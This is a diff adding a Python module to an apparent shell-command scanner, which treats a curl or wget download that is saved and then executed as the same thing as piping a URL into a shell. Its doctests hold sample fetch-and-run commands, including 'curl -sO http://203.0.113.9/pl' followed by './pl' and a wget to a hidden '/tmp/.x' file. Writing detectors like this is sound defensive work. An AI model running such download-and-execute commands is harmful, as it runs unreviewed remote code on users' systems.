@@ -1,0 +1,111 @@
+"""A download saved to a file that the same script then runs, read as piped into a shell.
+
+``curl -o /tmp/app URL && chmod +x /tmp/app && /tmp/app`` does what ``curl URL | sh``
+does. :func:`pipe_equivalents` appends that piped form to the download's line (the line
+count stays), so the pipe-to-shell rules and their policies on hosts, vendor installers
+and documentation apply to both spellings. Only a run of that very file counts: by a
+path (``./app``, ``/tmp/app``, ``$DIR/app``) or as an interpreter's script argument
+(``bash install.sh``, ``source env.sh``, ``python3 setup.py``).
+
+>>> pipe_equivalents("curl -sO http://203.0.113.9/pl\\nchmod +x pl; ./pl").splitlines()[0]
+'curl -sO http://203.0.113.9/pl ; curl http://203.0.113.9/pl | sh'
+>>> pipe_equivalents("curl -o data.json https://x.invalid/d\\njq . data.json")
+'curl -o data.json https://x.invalid/d\\njq . data.json'
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+
+RUN_WINDOW = 40
+"""Lines after a download in which running the saved file counts as running the download."""
+
+_FETCH = re.compile(r"\b(curl|wget)[ \t]+([^\n|;&]*)")
+_URL = re.compile(r"""^["']?(https?://[^\s"'`<>]+)""")
+_SAFE_NAME = re.compile(r"^[\w.+-]{2,80}$")
+_INTERPRETERS = r"(?:(?:ba|z|da|k)?sh|source|\.|python[\d.]*|node|perl|ruby|php)"
+
+
+@dataclass(frozen=True)
+class SavedDownload:
+    """A download written to a file: where it is, where from, and the file's name."""
+
+    line: int
+    url: str
+    name: str
+
+
+def saved_downloads(lines: list[str]) -> list[SavedDownload]:
+    """Each ``curl``/``wget`` that writes its download to a named file.
+
+    >>> saved_downloads(["wget -qO /tmp/.x https://x.invalid/a.sh"])
+    [SavedDownload(line=1, url='https://x.invalid/a.sh', name='.x')]
+    """
+    found = []
+    for number, line in enumerate(lines, 1):
+        if "curl" not in line and "wget" not in line:
+            continue
+        for match in _FETCH.finditer(line):
+            url, target = _url_and_target(match.group(1), match.group(2).split())
+            name = target.rstrip("/").rsplit("/", 1)[-1].strip("\"'") if target else ""
+            if url and _SAFE_NAME.match(name):
+                found.append(SavedDownload(number, url, name))
+    return found
+
+
+_OUTPUT_FLAG = {"curl": re.compile(r"-[a-zA-Z]*o|--output"), "wget": re.compile(r"-[a-zA-Z]*O")}
+"""Flags whose next word is the file the program writes."""
+_CURL_REMOTE_NAME = re.compile(r"-[a-zA-Z]*O[a-zA-Z]*|--remote-name(?:-all)?")
+"""curl flags that save under the URL's own file name (wget does by default)."""
+
+
+def _url_and_target(program: str, words: list[str]) -> tuple[str, str]:
+    """The URL a ``curl``/``wget`` command fetches and the file it writes ('' if none)."""
+    url, target, remote_name = "", "", program == "wget"
+    for index, word in enumerate(words):
+        following = words[index + 1] if index + 1 < len(words) else ""
+        if not url and (match := _URL.match(word)):
+            url = match.group(1)
+        elif word.startswith(">"):
+            target = word.lstrip(">") or following
+        elif _OUTPUT_FLAG[program].fullmatch(word):
+            target = following
+        elif word.startswith("--output-document="):
+            target = word.split("=", 1)[1]
+        elif program == "curl" and _CURL_REMOTE_NAME.fullmatch(word):
+            remote_name = True
+    if target in ("-", "/dev/stdout", "/dev/null"):
+        return url, ""
+    if not target and url and remote_name:
+        target = url.split("?", 1)[0].split("#", 1)[0]
+    return url, target
+
+
+def _runs(name: str, text: str) -> bool:
+    """``text`` runs the file ``name``: by a path to it, or as an interpreter's script."""
+    escaped = re.escape(name)
+    by_path = (
+        rf"(?:^|[;&|(]\s*|\b(?:then|do|sudo|exec|nohup)\s+)"
+        rf"[\"']?(?:\./|~/|/|\$\{{?\w+\}}?/)(?:[^\s;&|/]+/)*{escaped}(?=$|[\s;&|)\"'])"
+    )
+    as_script = (
+        rf"(?:^|[;&|(]\s*|\b(?:then|do|sudo|exec|nohup)\s+){_INTERPRETERS}\s+"
+        rf"(?:-\S+\s+)*[\"']?(?:[^\s;&|\"']*/)?{escaped}(?=$|[\s;&|)\"'])"
+    )
+    return bool(re.search(by_path, text, re.M) or re.search(as_script, text, re.M))
+
+
+def pipe_equivalents(text: str) -> str:
+    """``text`` with ``; curl URL | sh`` appended to each download that is later run."""
+    if "curl" not in text and "wget" not in text:
+        return text
+    lines = text.split("\n")
+    downloads = saved_downloads(lines)
+    for download in downloads:
+        start = download.line - 1
+        after = lines[start].split(download.name, 1)[-1] if download.name in lines[start] else ""
+        window = "\n".join([after, *lines[start + 1 : start + 1 + RUN_WINDOW]])
+        if _runs(download.name, window):
+            lines[start] += f" ; curl {download.url} | sh"
+    return "\n".join(lines)
